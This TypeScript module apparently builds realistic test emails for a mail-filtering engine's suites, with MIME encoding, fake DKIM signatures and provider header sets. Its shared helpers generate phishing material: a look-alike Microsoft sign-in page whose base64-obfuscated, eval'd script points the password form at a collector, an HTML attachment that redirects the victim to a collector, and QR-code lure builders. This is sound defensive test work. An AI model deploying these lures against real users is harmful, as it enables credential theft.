// Builds the hand-written messages of the whole-engine mail suites as real senders write
// them: encoded-word subjects and names, quoted-printable text, base64 attachments, an HTML
// part and a plain part made from the same blocks (so the two agree, as they do in real mail),
// DKIM-Signature fields of the sending domains, Received fields, Authentication-Results of the
// receiving provider. The signatures are not real: the tests run with DNS off, where only their
// presence and d= count.

import { createHash } from 'node:crypto';

import QRCode from 'qrcode';

import { imagePdf, qrGrey } from './formats-builders.ts';

/** The one-click unsubscribe header (RFC 8058) that bulk senders add beside List-Unsubscribe. */
export const LIST_UNSUBSCRIBE_POST = 'List-Unsubscribe-Post: List-Unsubscribe=One-Click';

const encoder = new TextEncoder();

function isAscii(text: string): boolean {
  return /^[\x20-\x7e]*$/.test(text);
}

/** RFC 2047 B encoding, in encoded-words of at most 45 bytes of UTF-8 each, when needed. */
export function encodeWord(text: string): string {
  if (isAscii(text)) return text;
  const words: string[] = [];
  let chunk = '';
  for (const char of text) {
    if (encoder.encode(chunk + char).length > 45) {
      words.push(chunk);
      chunk = '';
    }
    chunk += char;
  }
  words.push(chunk);
  return words.map((word) => `=?UTF-8?B?${Buffer.from(word, 'utf8').toString('base64')}?=`).join('\r\n ');
}

/** "Name <address>" with the name quoted or encoded as mail clients do. */
export function mailbox(spec: string): string {
  const match = /^(.*?)\s*<([^>]+)>$/.exec(spec);
  if (match === null) return spec;
  const [, name = '', address = ''] = match;
  if (name === '') return `<${address}>`;
  if (!isAscii(name)) return `${encodeWord(name)} <${address}>`;
  return /[(),.:;@"]/.test(name) ? `"${name.replace(/"/g, '\\"')}" <${address}>` : `${name} <${address}>`;
}

export function addressOf(spec: string): string {
  return /<([^>]+)>/.exec(spec)?.[1] ?? spec;
}

export function domainOf(spec: string): string {
  const address = addressOf(spec);
  return address.slice(address.lastIndexOf('@') + 1).toLowerCase();
}

/** Quoted-printable (RFC 2045) of the UTF-8 text, CRLF line ends, soft breaks before 76. */
export function quotedPrintable(text: string): string {
  return text
    .replace(/\r?\n/g, '\n')
    .split('\n')
    .map((line) => {
      const bytes = encoder.encode(line);
      const pieces: string[] = [];
      bytes.forEach((byte, index) => {
        const last = index === bytes.length - 1;
        const plain = byte >= 33 && byte <= 126 && byte !== 61;
        const space = (byte === 32 || byte === 9) && !last;
        pieces.push(plain || space ? String.fromCharCode(byte) : `=${byte.toString(16).toUpperCase().padStart(2, '0')}`);
      });
      const out: string[] = [];
      let current = '';
      for (const piece of pieces) {
        if (current.length + piece.length > 75) {
          out.push(`${current}=`);
          current = '';
        }
        current += piece;
      }
      out.push(current);
      return out.join('\r\n');
    })
    .join('\r\n');
}

function base64Lines(bytes: Uint8Array): string {
  return Buffer.from(bytes).toString('base64').replace(/.{76}/g, '$&\r\n');
}

/** A MIME entity: its own header lines and its body, already encoded. */
export interface Entity {
  readonly headers: readonly string[];
  readonly body: string;
}

export function plain(text: string): Entity {
  return { headers: ['Content-Type: text/plain; charset="UTF-8"', 'Content-Transfer-Encoding: quoted-printable'], body: quotedPrintable(text) };
}

export function html(markup: string): Entity {
  return { headers: ['Content-Type: text/html; charset="UTF-8"', 'Content-Transfer-Encoding: quoted-printable'], body: quotedPrintable(markup) };
}

/**
 * A deterministic boundary in the style of the sending software, drawn from what it encloses:
 * a message's bytes must not depend on which messages were built before it, so that a case
 * keeps its bytes wherever its file imports it from.
 */
function boundary(style: string, enclosed: string): string {
  const hex = createHash('sha1').update(`${style}\0${enclosed}`).digest('hex');
  const part = Number.parseInt(hex.slice(23, 28), 16) % 5000;
  return style === 'gmail' ? `000000000000${hex.slice(0, 16)}` : `----=_Part_${part}_${hex.slice(0, 10)}.${hex.slice(10, 23)}`;
}

export function multipart(subtype: 'alternative' | 'mixed' | 'related', parts: readonly Entity[], style = 'part'): Entity {
  const mark = boundary(style, `${subtype}\0${parts.map((part) => `${part.headers.join('\r\n')}\r\n\r\n${part.body}`).join('\0')}`);
  const body = [...parts.flatMap((part) => [`--${mark}`, ...part.headers, '', part.body]), `--${mark}--`, ''].join('\r\n');
  return { headers: [`Content-Type: multipart/${subtype}; boundary="${mark}"`], body };
}

/** A delivery status notification (RFC 3464): what the reader sees, the per-recipient status fields, the returned headers. */
export function deliveryReport(human: Entity, status: readonly string[], returnedHeaders: readonly string[]): Entity {
  const mark = boundary('report', [...human.headers, human.body, ...status, ...returnedHeaders].join('\r\n'));
  const body = [
    `--${mark}`,
    ...human.headers,
    '',
    human.body,
    `--${mark}`,
    'Content-Type: message/delivery-status',
    '',
    ...status,
    '',
    `--${mark}`,
    'Content-Type: text/rfc822-headers',
    '',
    ...returnedHeaders,
    '',
    `--${mark}--`,
    '',
  ].join('\r\n');
  return { headers: [`Content-Type: multipart/report; report-type=delivery-status; boundary="${mark}"`], body };
}

export function attachment(name: string, contentType: string, bytes: Uint8Array | string, inline = false): Entity {
  const data = typeof bytes === 'string' ? encoder.encode(bytes) : bytes;
  const filename = isAscii(name) ? `"${name}"` : `"${encodeWord(name)}"`;
  return {
    headers: [
      `Content-Type: ${contentType}; name=${filename}`,
      `Content-Disposition: ${inline ? 'inline' : 'attachment'}; filename=${filename}`,
      'Content-Transfer-Encoding: base64',
    ],
    body: base64Lines(data),
  };
}

// The body is written once as blocks; `document` renders it as an HTML newsletter-style layout
// and as the plain text the same sender puts beside it.

/** A paragraph; `[text](url)` inside it is a link. */
export type Block =
  | string
  | { readonly button: string; readonly href: string }
  | { readonly code: string }
  | { readonly rows: readonly (readonly [string, string])[] }
  | { readonly image: string; readonly alt: string }
  | { readonly small: string }
  | { readonly heading: string };

const LINK = /\[([^\]]+)\]\(([^)\s]+)\)/g;

function escapeHtml(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

function inlineHtml(text: string): string {
  let out = '';
  let last = 0;
  for (const match of text.matchAll(LINK)) {
    out += escapeHtml(text.slice(last, match.index));
    out += `<a href="${escapeHtml(match[2] ?? '')}" style="color:#1a73e8">${escapeHtml(match[1] ?? '')}</a>`;
    last = match.index + match[0].length;
  }
  return out + escapeHtml(text.slice(last));
}

function inlinePlain(text: string): string {
  return text.replace(LINK, (_, label: string, href: string) => `${label} <${href}>`);
}

function blockHtml(block: Block): string {
  if (typeof block === 'string') return `<p style="margin:0 0 16px">${inlineHtml(block)}</p>`;
  if ('button' in block) {
    return `<table role="presentation" cellpadding="0" cellspacing="0"><tr><td style="background:#1a73e8;border-radius:4px;padding:10px 24px"><a href="${escapeHtml(block.href)}" style="color:#ffffff;text-decoration:none;font-weight:bold">${escapeHtml(block.button)}</a></td></tr></table>`;
  }
  if ('code' in block) return `<p style="font-size:28px;letter-spacing:6px;font-weight:bold;margin:16px 0">${escapeHtml(block.code)}</p>`;
  if ('rows' in block) {
    return `<table role="presentation" cellpadding="4" cellspacing="0" style="border-collapse:collapse;margin:0 0 16px">${block.rows
      .map(([key, value]) => `<tr><td style="color:#5f6368">${escapeHtml(key)}</td><td>${inlineHtml(value)}</td></tr>`)
      .join('')}</table>`;
  }
  if ('image' in block) return `<img src="${escapeHtml(block.image)}" alt="${escapeHtml(block.alt)}" width="120" style="display:block;margin:0 0 16px">`;
  if ('heading' in block) return `<h1 style="font-size:20px;font-weight:normal;margin:0 0 16px">${inlineHtml(block.heading)}</h1>`;
  return `<p style="font-size:12px;color:#5f6368;margin:24px 0 0">${inlineHtml(block.small)}</p>`;
}

function blockPlain(block: Block): string | undefined {
  if (typeof block === 'string') return inlinePlain(block);
  if ('button' in block) return `${block.button}: ${block.href}`;
  if ('code' in block) return block.code;
  if ('rows' in block) return block.rows.map(([key, value]) => `${key}: ${inlinePlain(value)}`).join('\n');
  if ('image' in block) return undefined;
  if ('heading' in block) return inlinePlain(block.heading);
  return inlinePlain(block.small);
}

export interface DocumentOptions {
  readonly lang?: string;
  readonly title?: string;
  /** The preview line marketing mail hides at the top of the HTML. */
  readonly preheader?: string;
  /** Leave the plain part out (HTML-only mail, as many marketing tools send). */
  readonly htmlOnly?: boolean;
}

/** multipart/alternative of the plain and HTML renderings of the blocks. */
export function document(blocks: readonly Block[], options: DocumentOptions = {}): Entity {
  const preheader = options.preheader === undefined ? '' : `<div style="display:none;max-height:0;overflow:hidden">${escapeHtml(options.preheader)}</div>`;
  const markup = [
    '<!DOCTYPE html>',
    `<html lang="${options.lang ?? 'en'}"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>${escapeHtml(options.title ?? '')}</title></head>`,
    '<body style="margin:0;padding:0;background:#f1f3f4">',
    preheader,
    '<table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">',
    '<table role="presentation" width="600" cellpadding="24" cellspacing="0" style="background:#ffffff;font-family:Arial,Helvetica,sans-serif;font-size:14px;line-height:20px;color:#202124"><tr><td>',
    ...blocks.map(blockHtml),
    '</td></tr></table>',
    '</td></tr></table>',
    '</body></html>',
  ].join('\n');
  if (options.htmlOnly === true) return html(markup);
  const text = blocks
    .map(blockPlain)
    .filter((line) => line !== undefined)
    .join('\n\n');
  return multipart('alternative', [plain(text), html(markup)]);
}

/** What Gmail sends for a typed message: plain text and a `<div dir="ltr">` HTML rendering. */
export function gmailBody(text: string): Entity {
  const markup = `<div dir="ltr">${text
    .split('\n')
    .map((line) => (line === '' ? '<div><br></div>' : `<div>${inlineHtml(line)}</div>`))
    .join('')}</div>`;
  return multipart('alternative', [plain(inlinePlain(text)), html(markup)], 'gmail');
}

/**
 * What the recipient's provider concluded, when it is not a pass on every count (the default):
 * a spoofed brand fails SPF and DMARC, a throw-away domain has no DMARC, an unsigned message
 * shows `dkim=none`. `absent` writes no Authentication-Results field at all.
 */
export interface AuthOutcome {
  /** For every signer in `dkim`; with no signer, `none` writes `dkim=none (message not signed)`. */
  readonly dkim?: 'pass' | 'fail' | 'none';
  readonly spf?: 'pass' | 'fail' | 'softfail' | 'neutral' | 'none';
  readonly dmarc?: 'pass' | 'fail' | 'none';
}

export interface MailSpec {
  /** "Display Name <address>". */
  readonly from: string;
  /** The From field exactly as the sending software wrote it, when it differs from the quoted `from` (an unquoted comma: "Pérez, Ana <ana@x>"). */
  readonly fromField?: string;
  readonly to: string;
  readonly cc?: string;
  readonly replyTo?: string;
  readonly subject: string;
  /** RFC 5322 date-time. */
  readonly date: string;
  /** Without the angle brackets. */
  readonly messageId: string;
  /** Domains that sign, first the From domain's (with selector `s1` unless `domain:selector`). */
  readonly dkim?: readonly string[];
  readonly returnPath?: string;
  /** The last hop before the recipient's provider: `host [ip]`. */
  readonly relay: string;
  /** Further header lines (list headers, mailer, thread fields). */
  readonly headers?: readonly string[];
  readonly body: Entity;
  /** The receiving provider's verdicts; every check passes when left out. */
  readonly auth?: AuthOutcome | 'absent';
}

/** The Authentication-Results field the recipient's provider writes. */
function authenticationResults(spec: MailSpec, authserv: string, returnPath: string, relayIp: string): readonly string[] {
  if (spec.auth === 'absent') return [];
  const signers = spec.dkim ?? [];
  const fromDomain = domainOf(spec.from);
  const ip = relayIp.replace(/[[\]]/g, '');
  const dkim = spec.auth?.dkim ?? 'pass';
  const spf = spec.auth?.spf ?? 'pass';
  const dmarc = spec.auth?.dmarc ?? 'pass';
  const dkimLines =
    signers.length === 0
      ? dkim === 'none'
        ? ['       dkim=none (message not signed);']
        : []
      : signers.map((signer) => {
          const [domain = '', selector = 's1'] = signer.split(':');
          return dkim === 'fail'
            ? `       dkim=fail (signature did not verify) header.i=@${domain} header.s=${selector};`
            : `       dkim=pass header.i=@${domain} header.s=${selector};`;
        });
  const spfText: Readonly<Record<NonNullable<AuthOutcome['spf']>, string>> = {
    pass: `spf=pass (${authserv}: domain of ${returnPath} designates ${ip} as permitted sender)`,
    fail: `spf=fail (${authserv}: domain of ${returnPath} does not designate ${ip} as permitted sender)`,
    softfail: `spf=softfail (${authserv}: domain of transitioning ${returnPath} does not designate ${ip} as permitted sender)`,
    neutral: `spf=neutral (${authserv}: ${ip} is neither permitted nor denied by best guess record for domain of ${returnPath})`,
    none: `spf=none (${authserv}: ${returnPath} does not designate permitted sender hosts)`,
  };
  const dmarcText = dmarc === 'fail' ? `dmarc=fail (p=REJECT sp=REJECT dis=QUARANTINE) header.from=${fromDomain}` : `dmarc=${dmarc} header.from=${fromDomain}`;
  return [`Authentication-Results: ${authserv};`, ...dkimLines, `       ${spfText[spf]} smtp.mailfrom=${returnPath};`, `       ${dmarcText}`];
}

function digest(...parts: readonly string[]): Buffer {
  return createHash('sha256').update(parts.join('\0')).digest();
}

function dkimSignature(signer: string, spec: MailSpec, timestamp: number): string {
  const [domain = '', selector = 's1'] = signer.split(':');
  const bh = digest('bh', domain, spec.messageId).toString('base64');
  const b = Buffer.concat([digest('b1', domain, spec.messageId), digest('b2', domain, spec.subject), digest('b3', domain, spec.date)]).toString('base64');
  return [
    `DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=${domain};`,
    ` s=${selector}; t=${timestamp}; x=${timestamp + 1209600};`,
    ' h=from:to:subject:date:message-id:mime-version:content-type;',
    ` bh=${bh};`,
    ` b=${b.slice(0, 64)}`,
    `  ${b.slice(64)}`,
  ].join('\r\n');
}

/** The recipient's provider, for its Received and Authentication-Results fields. */
function receiver(to: string): { mx: string; authserv: string } {
  const domain = domainOf(to);
  if (domain === 'gmail.com' || domain === 'googlemail.com') return { mx: 'mx.google.com', authserv: 'mx.google.com' };
  if (['outlook.com', 'hotmail.com', 'outlook.es', 'hotmail.es', 'live.nl'].includes(domain)) {
    return { mx: 'AM4PEPF00027A6C.mail.protection.outlook.com', authserv: 'spf.protection.outlook.com' };
  }
  return { mx: `mx1.${domain}`, authserv: `mx1.${domain}` };
}

/** The whole message as UTF-8 bytes. */
export function mail(spec: MailSpec): Uint8Array {
  const timestamp = Math.floor(Date.parse(spec.date) / 1000);
  if (!Number.isFinite(timestamp)) throw new Error(`unreadable date ${spec.date}`);
  const { mx, authserv } = receiver(spec.to);
  const arrived = new Date((timestamp + 2) * 1000).toUTCString().replace('GMT', '+0000');
  const signers = spec.dkim ?? [];
  const returnPath = spec.returnPath ?? addressOf(spec.from);
  const [relayHost = '', relayIp = ''] = spec.relay.split(' ');
  const auth = authenticationResults(spec, authserv, returnPath, relayIp);
  const lines = [
    `Return-Path: <${returnPath}>`,
    `Received: from ${relayHost} (${relayHost} ${relayIp})`,
    `        by ${mx} with ESMTPS id ${digest('id', spec.messageId).toString('hex').slice(0, 16)}`,
    `        for <${addressOf(spec.to)}>`,
    `        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);`,
    `        ${arrived}`,
    ...auth,
    ...signers.map((signer) => dkimSignature(signer, spec, timestamp)),
    `From: ${spec.fromField ?? mailbox(spec.from)}`,
    `To: ${mailbox(spec.to)}`,
    ...(spec.cc === undefined ? [] : [`Cc: ${mailbox(spec.cc)}`]),
    ...(spec.replyTo === undefined ? [] : [`Reply-To: ${mailbox(spec.replyTo)}`]),
    `Subject: ${encodeWord(spec.subject)}`,
    `Date: ${spec.date}`,
    `Message-ID: <${spec.messageId}>`,
    ...(spec.headers ?? []),
    'MIME-Version: 1.0',
    ...spec.body.headers,
    '',
    spec.body.body,
  ];
  return encoder.encode(lines.join('\r\n'));
}

// ---------------------------------------------------------------- Shared by the case files
// Senders, ESP header fields, authentication outcomes and lure pages that cases of several
// subjects use.

/**
 * The HTML attachment of invoice and voicemail phishing: a look-alike sign-in page, the
 * victim's address filled in, the form posting to the criminal's collector, the script
 * base64-wrapped as the kits do.
 */
export function loginPage(options: { title: string; brand: string; email: string; action: string; lang?: string; prompt?: string }): string {
  const script = Buffer.from(`document.getElementById("f").action=atob("${Buffer.from(options.action).toString('base64')}");`).toString('base64');
  return [
    '<!DOCTYPE html>',
    `<html lang="${options.lang ?? 'en'}"><head><meta charset="utf-8"><title>${options.title}</title>`,
    '<meta name="robots" content="noindex, nofollow"><meta name="viewport" content="width=device-width, initial-scale=1">',
    '<style>body{font-family:Segoe UI,Arial,sans-serif;background:#f2f2f2}.box{width:360px;margin:80px auto;background:#fff;padding:40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}input{width:100%;padding:8px;margin:8px 0;border:0;border-bottom:1px solid #666}button{background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right}</style></head>',
    `<body><div class="box"><img src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.svg" alt="${options.brand}">`,
    `<p>${options.prompt ?? "Because you're accessing sensitive info, you need to verify your password."}</p>`,
    `<form id="f" method="POST"><input type="email" name="login" value="${options.email}" readonly><input type="password" name="passwd" placeholder="Password" required autofocus><button type="submit">Sign in</button></form></div>`,
    `<script>eval(atob("${script}"))</script></body></html>`,
  ].join('\n');
}

/** An inline picture referenced by `cid:` from the HTML, as picture-only lures carry it. */
export function inlineImage(cid: string, name: string, bytes: Uint8Array): Entity {
  return {
    headers: [
      `Content-Type: image/jpeg; name="${name}"`,
      'Content-Transfer-Encoding: base64',
      `Content-ID: <${cid}>`,
      `Content-Disposition: inline; filename="${name}"`,
    ],
    body: Buffer.from(bytes).toString('base64').replace(/.{76}/g, '$&\r\n'),
  };
}

/** The fields Amazon SES adds to what an account sends (region us-east-1 or eu-west-1). */
export function sesHeaders(region: string, feedback: string, outgoing: string): readonly string[] {
  return [`Feedback-ID: ${feedback}:${region}:AmazonSES`, `X-SES-Outgoing: ${outgoing}`];
}

/** Brevo's (ex-Sendinblue) campaign fields: its own Message-ID host, EID and unsubscribe link. */
export function brevoHeaders(account: string, eid: string): readonly string[] {
  return [
    `List-Unsubscribe: <https://${account}.r.af.d.sendibt2.com/tr/un/li/${eid}>, <mailto:unsubscribe-${eid}@unsubscribe.brevo.com>`,
    LIST_UNSUBSCRIBE_POST,
    `X-Mailin-EID: ${eid}`,
    `Feedback-ID: ${account}:brevo`,
    'X-Mailer: Brevo',
  ];
}

/** SendGrid's fields: the X-SG-EID and X-Entity-ID of the account, its click-tracking host. */
export function sendgridHeaders(eid: string): readonly string[] {
  return [`X-SG-EID: u001.${eid}`, `X-Entity-ID: u001.${eid.slice(0, 12)}==`];
}

/** Mailchimp's list fields for an account `u` and list `id`. */
export function mailchimpHeaders(account: string, dc: string, u: string, id: string): readonly string[] {
  return [
    `List-Unsubscribe: <https://${account}.${dc}.list-manage.com/unsubscribe?u=${u}&id=${id}&t=b&e=5c1e9a7f20&c=8b2d4f6a1e>, <mailto:unsubscribe-mc.${dc}_${u}.8b2d4f6a1e-5c1e9a7f20@unsubscribe.mailchimpapp.net?subject=unsubscribe>`,
    LIST_UNSUBSCRIBE_POST,
    `List-ID: ${u}mc list <${u}.${id}.list-id.mcsv.net>`,
    `X-MC-User: ${u}`,
    `Feedback-ID: 1183554:1183554+8b2d4f6a1e:${dc}:mc`,
  ];
}

/** Mailgun's fields on what an account sends: its tracking host sits on the sending domain. */
export function mailgunHeaders(campaign: string): readonly string[] {
  return [`X-Mailgun-Sid: WyI${campaign}IiwgIm1haWwiXQ==`, `X-Mailgun-Tag: ${campaign}`, 'X-Mailgun-Track: yes'];
}

/** A throw-away domain registered for the campaign: it signs, but publishes no DMARC. */
export const THROWAWAY: AuthOutcome = { dmarc: 'none' };

export const GMAIL = { dkim: ['gmail.com:20230601'], relay: 'mail-sor-f41.google.com [209.85.220.41]' } as const;

export const OUTLOOK = { dkim: ['outlook.com:selector1'], relay: 'EUR05-AM6-obe.outbound.protection.outlook.com [40.92.58.101]' } as const;

/** A one-page PDF whose only content is a QR code (scanned with a phone, outside the mail filter). */
export function qrPdf(url: string, lines: readonly string[]): Uint8Array {
  const { side, pixels } = qrGrey(url, 4);
  return imagePdf(`/Width ${side} /Height ${side} /ColorSpace /DeviceGray /BitsPerComponent 8`, pixels, [], lines);
}

/** An HTML attachment that sends the browser to the collector with the victim's address in the fragment. */
export function redirectPage(title: string, text: string, collector: string, victim: string): string {
  return `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${title}</title></head><body style="font-family:Segoe UI,Arial"><p>${text}</p><script>
var t = atob("${Buffer.from(collector).toString('base64')}");
var e = "${Buffer.from(victim).toString('base64')}";
setTimeout(function () { window.location.replace(t + "#" + e); }, 800);
</script></body></html>`;
}

/** A brand's own domain in From, sent from the criminal's server: unsigned, DMARC fails. */
export const SPOOFED: AuthOutcome = { dkim: 'none', spf: 'softfail', dmarc: 'fail' };

export const OUTLOOK_AM6_104 = { dkim: ['outlook.com:selector1'], relay: 'EUR05-AM6-obe.outbound.protection.outlook.com [40.92.58.104]' } as const;

export const TRACE_FIELDS = /^(return-path|received|authentication-results|arc-[a-z-]+|x-received):/i;

/** The message as a held-out set stripped of trace fields holds it: no Return-Path, Received or Authentication-Results. */
export function withoutTrace(raw: Uint8Array): Uint8Array {
  const text = new TextDecoder().decode(raw);
  const end = text.indexOf('\r\n\r\n');
  const fields: string[] = [];
  for (const line of text.slice(0, end).split('\r\n')) {
    if (/^[ \t]/.test(line) && fields.length > 0) fields[fields.length - 1] += `\r\n${line}`;
    else fields.push(line);
  }
  const kept = fields.filter((field) => !TRACE_FIELDS.test(field));
  return new TextEncoder().encode(`${kept.join('\r\n')}${text.slice(end)}`);
}

/** A QR code as the PNG picture quishing mail embeds. */
export async function qrPngScale5(url: string): Promise<Uint8Array> {
  return new Uint8Array(await QRCode.toBuffer(url, { type: 'png', scale: 5, margin: 4 }));
}

/** An inline picture referenced from the HTML by its Content-ID. */
export function inlinePng(cid: string, name: string, bytes: Uint8Array): Entity {
  return {
    headers: [
      `Content-Type: image/png; name="${name}"`,
      'Content-Transfer-Encoding: base64',
      `Content-ID: <${cid}>`,
      `Content-Disposition: inline; filename="${name}"`,
    ],
    body: Buffer.from(bytes).toString('base64').replace(/.{76}/g, '$&\r\n'),
  };
}

export const HOTMAIL_BRA = { dkim: ['hotmail.com:selector1'], relay: 'BRA01-CP2-obe.outbound.protection.outlook.com [40.92.42.17]' } as const;

/** An Outlook forward: the rule, the quoted header block, then the letter; the HTML the same with the letter's markup. */
export function outlookForward(header: readonly string[], letterText: string, letterMarkup: string) {
  const rule = '________________________________';
  return multipart('alternative', [
    plain(`\n${rule}\n${header.join('\n')}\n\n${letterText}\n`),
    html(
      `<div><br></div><hr style="display:inline-block;width:98%"><div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif">${header.map((line) => line.replace(/</g, '&lt;').replace(/>/g, '&gt;')).join('<br>')}</font></div><div>${letterMarkup}</div>`,
    ),
  ]);
}

export const OUTLOOK_AM6_117 = { dkim: ['outlook.com:selector1'], relay: 'EUR05-AM6-obe.outbound.protection.outlook.com [40.92.58.117]' } as const;

/** Braze, which dating and fitness apps send through: its list fields and SendGrid underneath. */
export function brazeHeaders(unsubscribe: string, eid: string): readonly string[] {
  return [`List-Unsubscribe: <${unsubscribe}>`, LIST_UNSUBSCRIBE_POST, ...sendgridHeaders(eid)];
}

/** A brand's own list fields: one-click unsubscribe on its sending domain. */
export function listHeaders(unsubscribe: string, mailto?: string): readonly string[] {
  return [`List-Unsubscribe: <${unsubscribe}>${mailto === undefined ? '' : `, <mailto:${mailto}>`}`, LIST_UNSUBSCRIBE_POST];
}

/** Microsoft 365's outbound relay for a tenant's own mail. */
export const M365_RELAY = 'NAM12-BN8-obe.outbound.protection.outlook.com [40.107.212.91]';

export function ics(lines: readonly string[]): string {
  return ['BEGIN:VCALENDAR', 'VERSION:2.0', 'METHOD:REQUEST', 'BEGIN:VEVENT', ...lines, 'END:VEVENT', 'END:VCALENDAR', ''].join('\r\n');
}
